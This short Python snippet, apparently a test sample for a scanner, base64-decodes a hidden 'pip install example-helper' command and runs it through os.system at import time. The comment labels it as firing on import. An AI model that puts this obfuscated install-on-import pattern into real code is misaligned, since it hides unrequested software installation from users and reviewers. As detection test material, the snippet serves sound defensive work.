import base64, os
os.system(base64.b64decode("cGlwIGluc3RhbGwgZXhhbXBsZS1oZWxwZXI=").decode())  # fires: import
